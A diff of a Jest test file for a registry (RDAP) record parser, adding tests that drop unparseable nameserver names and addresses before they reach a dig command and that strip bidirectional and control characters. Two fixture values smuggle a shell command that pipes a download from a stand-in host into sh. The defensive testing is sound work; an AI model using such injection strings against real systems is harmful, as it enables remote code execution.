@@ -62,12 +62,39 @@ describe('a registry’s answer as it comes', () => {
     ]);
   });
 
-  it('falls back to unicodeName when there is no ldhName', () => {
+  it('falls back to unicodeName for the domain (shown only), never for a nameserver', () => {
     expect(recordOf({ objectClassName: 'domain', unicodeName: 'bücher.example' }).ldhName).toBe(
       'bücher.example',
     );
+    // A nameserver's name becomes a DNS question and a dig command: LDH form only.
     const ns = recordOf(domain({ nameservers: [{ unicodeName: 'ns.bücher.example' }] }));
-    expect(ns.nameservers).toEqual([{ ldhName: 'ns.bücher.example', v4: [], v6: [] }]);
+    expect(ns.nameservers).toEqual([]);
+  });
+
+  it('keeps only host names and addresses that parse, so nothing else reaches a command', () => {
+    const record = recordOf(
+      domain({
+        nameservers: [
+          { ldhName: 'ns1.example.net (pending)' },
+          { ldhName: 'ns2.example.net; curl evil | sh' },
+          {
+            ldhName: 'NS3.EXAMPLE.NET',
+            ipAddresses: {
+              v4: ['192.0.2.1', '127.0.0.1 example.com; curl x | sh #'],
+              v6: ['2001:db8::1', 'fe80::1%eth0'],
+            },
+          },
+        ],
+      }),
+    );
+    expect(record.nameservers).toEqual([
+      { ldhName: 'NS3.EXAMPLE.NET', v4: ['192.0.2.1'], v6: ['2001:db8::1'] },
+    ]);
+  });
+
+  it('turns bidirectional overrides, C1 controls and line separators into spaces', () => {
+    const record = recordOf(domain({ status: ['client\u202ehold', 'active\u2028', 'x\u0085y'] }));
+    expect(record.status).toEqual(['client hold', 'active', 'x y']);
   });
 
   it('reads a minimal object as empty lists and no delegationSigned', () => {
@@ -203,13 +230,13 @@ describe('control characters and bounds', () => {
       domain({
         ldhName: '\tEXAMPLE.COM\r\n',
         status: ['client\u0000hold', 'active\n', '\u0007', 'server\u007fhold'],
-        nameservers: [{ ldhName: 'NS1.EXAMPLE.COM\u001b[2J' }],
+        nameservers: [{ ldhName: 'NS1.EXAMPLE.COM\u001b' }],
         events: [{ eventAction: 'registration\n', eventDate: '\u00002020-01-01T00:00:00Z' }],
       }),
     );
     expect(record.ldhName).toBe('EXAMPLE.COM');
     expect(record.status).toEqual(['client hold', 'active', 'server hold']);
-    expect(record.nameservers[0]?.ldhName).toBe('NS1.EXAMPLE.COM [2J');
+    expect(record.nameservers[0]?.ldhName).toBe('NS1.EXAMPLE.COM');
     expect(record.events).toEqual([{ action: 'registration', date: '2020-01-01T00:00:00Z' }]);
   });
 
